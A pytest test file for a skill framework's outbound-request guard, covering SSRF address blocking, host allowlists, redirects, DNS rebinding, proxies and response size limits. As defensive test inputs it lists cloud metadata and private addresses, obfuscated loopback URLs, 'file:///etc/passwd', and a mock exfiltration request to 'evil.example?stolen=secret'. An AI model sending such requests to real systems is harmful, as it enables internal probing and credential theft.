"""The guard of skills' HTTP clients: by address alone, by name, by redirects, by what names resolve to."""

from __future__ import annotations

import gzip
import json
import logging
import zlib
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
from contextlib import asynccontextmanager
from ipaddress import ip_address, ip_network

import httpx
import pytest
from aiohttp import web

from duihua import ConfigError, skill
from duihua.ports import Skill
from duihua.skills.contract import SkillError
from duihua.skills.guard import Guard, Reach, Refused, is_public

INSIDE = """127.0.0.1 10.1.2.3 172.16.0.1 192.168.1.1 169.254.169.254 100.100.100.200 168.63.129.16 0.0.0.0
    224.0.0.1 255.255.255.255 240.0.0.1 198.18.0.1 ::1 :: fe80::1 fc00::1 fd00:ec2::254 ff02::1 fec0::1
    ::ffff:127.0.0.1 ::ffff:a00:1 ::127.0.0.1 64:ff9b::7f00:1 64:ff9b::a9fe:a9fe 2002:7f00:1:: 2001:db8::1
    192.0.0.192 192.88.99.1 203.0.113.1 100.64.0.1 3fff::1 5f00::1 100::1 64:ff9b:1::1 2001:2::1"""
LOOPBACK = ("127.0.0.0/8",)
Handler = Callable[[web.Request], Awaitable[web.StreamResponse]]


def reaching(*hosts: str, name: str = "reader") -> Skill:
    @skill(name=name, effect="read", hosts=hosts)
    async def reader() -> str:
        """Reads."""
        return ""

    return reader


@asynccontextmanager
async def server(handler: Handler) -> AsyncIterator[tuple[int, list[str]]]:
    """A server on loopback: its port, and the hosts that it was asked for."""
    seen: list[str] = []

    async def note(request: web.Request) -> web.StreamResponse:
        seen.append(request.headers.get("Host", ""))
        return await handler(request)

    app = web.Application()
    app.router.add_route("*", "/{path:.*}", note)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    try:
        yield runner.addresses[0][1], seen
    finally:
        await runner.cleanup()


async def hello(request: web.Request) -> web.StreamResponse:
    return web.Response(text="hello", headers={"Set-Cookie": "a=b"})


def resolving(*answers: Sequence[str]) -> Callable[[str, int], Awaitable[Sequence[str]]]:
    """A resolver that gives one answer after the other, and the last one for ever."""
    left = list(answers)

    async def resolve(host: str, port: int) -> Sequence[str]:
        return left.pop(0) if len(left) > 1 else left[0]

    return resolve


@pytest.mark.parametrize(
    "address",
    INSIDE.split(),
)
def test_no_address_inside_of_a_network_is_public(address: str) -> None:
    assert not is_public(ip_address(address))


@pytest.mark.parametrize("address", ["8.8.8.8", "2606:4700::1111", "::ffff:8.8.8.8", "64:ff9b::808:808"])
def test_addresses_of_the_internet_are_public(address: str) -> None:
    assert is_public(ip_address(address))


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1/",
        "http://[::1]/",
        "http://[::ffff:127.0.0.1]/",
        "http://2130706433/",
        "http://0x7f000001/",
        "http://0x7f.1/",
        "http://0177.0.0.1/",
        "http://127.1/",
        "http://localhost/",
        "http://localhost./",
        "http://printer/",
        "http://db.internal/",
        "http://169.254.169.254/latest/meta-data/",
        "http://[fe80::1%25eth0]/",
        "http://user:secret@example.com/",
        "http://example.com@127.0.0.1/",
        "ftp://example.com/",
        "file:///etc/passwd",
        "http://127。0。0。1/",
    ],
)
async def test_a_skill_that_may_read_any_public_page_reads_none_inside(url: str) -> None:
    guard = Guard(resolve=resolving(["127.0.0.1"]))
    try:
        with pytest.raises((Refused, httpx.UnsupportedProtocol, httpx.InvalidURL)) as refused:
            await guard.client(reaching("*")).get(url)
        assert "secret" not in str(refused.value)
    finally:
        await guard.aclose()


@pytest.mark.parametrize(
    ("host", "fits"),
    [
        ("api.example.com", True),
        ("API.Example.COM.", True),
        ("a.b.example.org", True),
        ("example.org", False),
        ("evilexample.org", False),
        ("api.example.com.evil.net", False),
        ("xapi.example.com", False),
    ],
)
def test_hosts_are_compared_whole(host: str, fits: bool) -> None:
    reach = Reach(("api.example.com", "*.example.org"))
    why = reach.why_not("https", host.lower().rstrip("."), 443)
    assert (not why) is fits
    assert fits or "@skill(hosts=" in why


async def test_a_host_that_was_not_declared_is_refused_and_told(caplog: pytest.LogCaptureFixture) -> None:
    guard = Guard()
    with caplog.at_level(logging.WARNING), pytest.raises(SkillError, match="not declared by this skill"):
        await guard.client(reaching("api.example.com")).get("https://evil.example/?stolen=secret")
    assert "evil.example" in caplog.text
    assert "stolen" not in caplog.text
    await guard.aclose()


async def test_a_redirect_leads_nowhere_else() -> None:
    async def away(request: web.Request) -> web.StreamResponse:
        raise web.HTTPFound(request.query["to"])

    async with server(away) as (port, seen):
        guard = Guard(networks=LOOPBACK, resolve=resolving(["127.0.0.1"]))
        client = guard.client(reaching("a.example.com"))
        for to in (
            "http://b.example.com/",
            "http://127.0.0.1/",
            "http://169.254.169.254/",
            "file:///etc/passwd",
        ):
            with pytest.raises((Refused, httpx.UnsupportedProtocol)):
                await client.get(f"http://a.example.com:{port}/", params={"to": to}, follow_redirects=True)
        assert seen == [f"a.example.com:{port}"] * 4
        await guard.aclose()


async def test_what_a_name_resolves_to_is_looked_at_before_anything_is_sent() -> None:
    async with server(hello) as (port, seen):
        guard = Guard(resolve=resolving(["127.0.0.1"]))
        with pytest.raises(Refused, match="leads to an address that is not public"):
            await guard.client(reaching("a.example.com")).get(f"http://a.example.com:{port}/")
        assert seen == []
        await guard.aclose()


async def test_a_name_that_means_something_else_the_next_time_leads_nowhere() -> None:
    """DNS rebinding: each connection goes to the very addresses that were looked at for it."""
    async with server(hello) as (port, seen):
        guard = Guard(resolve=resolving(["192.0.2.1"], ["127.0.0.1"]), networks=("192.0.2.0/24",))
        client = guard.client(reaching("a.example.com"))
        for _ in range(2):
            with pytest.raises(httpx.RequestError):
                await client.get(f"http://a.example.com:{port}/", timeout=0.05)
        assert seen == []
        await guard.aclose()


async def test_an_operators_setting_opens_exactly_what_it_names() -> None:
    async with server(hello) as (port, seen), server(hello) as (other, unseen):
        guard = Guard()
        settings = {"base_url": f"http://127.0.0.1:{port}/v1", "mode": "fast"}
        client = guard.client(reaching("*"), settings)
        assert (await client.get(f"http://127.0.0.1:{port}/x")).text == "hello"
        for url in (f"http://127.0.0.1:{other}/", f"http://localhost:{port}/", f"https://127.0.0.1:{port}/"):
            with pytest.raises(Refused):
                await client.get(url)
        with pytest.raises(Refused):
            await guard.client(reaching("*", name="another")).get(f"http://127.0.0.1:{port}/x")
        assert (len(seen), len(unseen)) == (1, 0)
        await guard.aclose()


async def test_not_even_an_operator_opens_link_local_addresses() -> None:
    guard = Guard(networks=("0.0.0.0/0",))
    client = guard.client(reaching("*"), {"base_url": "http://169.254.169.254/latest"})
    with pytest.raises(Refused):
        await client.get("http://169.254.169.254/latest")
    assert not Reach(networks=(ip_network("0.0.0.0/0"),)).is_open(ip_address("::ffff:169.254.169.254"))
    await guard.aclose()


async def test_calls_share_no_cookies_no_headers_and_no_end() -> None:
    async def echo(request: web.Request) -> web.StreamResponse:
        names = ("Cookie", "Authorization", "X-Mine")
        told = {name: request.headers[name] for name in names if name in request.headers}
        return web.json_response(told, headers={"Set-Cookie": "a=b"})

    async with server(echo) as (port, _):
        guard, mine = Guard(networks=LOOPBACK), reaching("*")
        async with guard.client(mine) as client:
            client.headers["X-Mine"] = "1"
            client.auth = httpx.BasicAuth("me", "secret")
            client.cookies.set("c", "d")
            await client.get(f"http://127.0.0.1:{port}/")
        later = await guard.client(mine).get(f"http://127.0.0.1:{port}/")
        assert json.loads(later.text) == {}
        await guard.aclose()


@pytest.mark.parametrize("packed", [True, False])
async def test_an_answer_is_bounded_also_when_it_is_unpacked(packed: bool) -> None:
    async def large(request: web.Request) -> web.StreamResponse:
        body = b"0" * 2_000_000
        head = {"Content-Encoding": "gzip"} if packed else {}
        return web.Response(body=gzip.compress(body) if packed else body, headers=head)

    async with server(large) as (port, _):
        guard = Guard(networks=LOOPBACK, largest=1_000_000)
        with pytest.raises(Refused, match="larger than 1000000 bytes"):
            await guard.client(reaching("*")).get(f"http://127.0.0.1:{port}/")
        wide = Guard(networks=LOOPBACK)
        assert len((await wide.client(reaching("*")).get(f"http://127.0.0.1:{port}/")).content) == 2_000_000
        await guard.aclose()
        await wide.aclose()


async def test_an_answer_that_is_cut_short_is_none() -> None:
    async def cut(request: web.Request) -> web.StreamResponse:
        packed = gzip.compress(b"".join(b"%d" % number for number in range(9_000)))
        size = len(packed) // (2 if request.path == "/cut" else 1)
        return web.Response(body=packed[:size], headers={"Content-Encoding": "gzip"})

    async with server(cut) as (port, _):
        guard = Guard(networks=LOOPBACK)
        with pytest.raises(httpx.DecodingError, match="cut short"):
            await guard.client(reaching("*")).get(f"http://127.0.0.1:{port}/cut")
        assert (await guard.client(reaching("*")).get(f"http://127.0.0.1:{port}/")).text.endswith("8999")
        await guard.aclose()


@pytest.mark.parametrize("wbits", [15, -15, 31])
async def test_deflate_is_read_as_servers_write_it(wbits: int) -> None:
    async def deflated(request: web.Request) -> web.StreamResponse:
        packer = zlib.compressobj(wbits=wbits)
        body = packer.compress(b"hello") + packer.flush()
        return web.Response(body=body, headers={"Content-Encoding": "deflate"})

    async with server(deflated) as (port, _):
        guard = Guard(networks=LOOPBACK)
        assert (await guard.client(reaching("*")).get(f"http://127.0.0.1:{port}/")).text == "hello"
        await guard.aclose()


async def test_a_skill_that_was_loaded_anew_reaches_its_new_hosts_alone() -> None:
    guard = Guard(resolve=resolving(["10.0.0.1"]))
    for host, why in (("one", "not public"), ("two", "not declared")):
        client = guard.client(reaching(f"{host}.example.com"))
        with pytest.raises(Refused, match=why):
            await client.get("http://one.example.com/")
    await guard.aclose()


async def test_through_a_proxy_names_are_looked_at_too() -> None:
    async with server(hello) as (port, seen):
        inside = Guard(
            proxy=f"http://127.0.0.1:{port}", resolve=resolving(["10.0.0.1"], ["8.8.8.8", "10.0.0.1"])
        )
        for _ in range(2):
            with pytest.raises(Refused):
                await inside.client(reaching("*")).get("http://a.example.com/")
        assert seen == []
        outside = Guard(proxy=f"http://127.0.0.1:{port}", resolve=resolving(["8.8.8.8"]))
        assert (await outside.client(reaching("*")).get("http://a.example.com/")).text == "hello"
        assert seen == ["a.example.com"]
        await inside.aclose()
        await outside.aclose()


def test_a_network_that_is_none_is_told() -> None:
    with pytest.raises(ConfigError, match="DUIHUA_SKILLS_NETWORKS: here is no network"):
        Guard(networks=("here",))
